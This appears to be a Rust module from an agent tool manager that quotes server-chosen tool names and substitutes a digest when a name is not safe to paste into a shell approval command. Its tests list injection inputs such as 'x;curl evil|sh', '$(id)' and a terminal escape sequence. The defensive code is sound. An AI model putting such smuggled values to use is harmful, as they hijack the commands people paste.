//! Names of tools in text for people: their server chooses them, and people paste the
//! command that approves.

use std::borrow::Cow;

/// True for what a shell takes for one word, and `agentkube tools approve` for a name.
fn is_plain(name: &str) -> bool {
    let legal = |c: char| c.is_ascii_alphanumeric() || "_.:/-".contains(c);
    let is_other = name.is_empty() || name.starts_with('-') || name.starts_with("sha256:");
    !is_other && name.chars().all(legal)
}

/// A name as it is printed: quoted, with escapes, unless it is plain.
#[must_use]
pub fn shown(name: &str) -> Cow<'_, str> {
    match is_plain(name) {
        true => Cow::Borrowed(name),
        false => Cow::Owned(format!("{name:?}")),
    }
}

/// The word of a command that approves a tool: its name where that is plain, else the
/// digest of its definition.
#[must_use]
pub fn approving<'a>(name: &'a str, digest: &'a str) -> &'a str {
    if is_plain(name) { name } else { digest }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_plain_names_stand_in_a_command() {
        let digest = "sha256:ab";
        for plain in ["pay", "a__pay", "x.y/z:1", "a-b"] {
            assert_eq!((approving(plain, digest), &*shown(plain)), (plain, plain));
        }
        let others = [
            "x;curl evil|sh",
            "--all",
            "-f",
            "",
            "$(id)",
            "`id`",
            "a b",
            "a'b",
            "sha256:cd",
            "é",
            "a\nb",
        ];
        for other in others {
            assert_eq!(approving(other, digest), digest, "{other:?}");
        }
        assert_eq!(shown("a\u{1b}[2J\n"), r#""a\u{1b}[2J\n""#);
        assert_eq!(shown("--all"), r#""--all""#);
    }
}
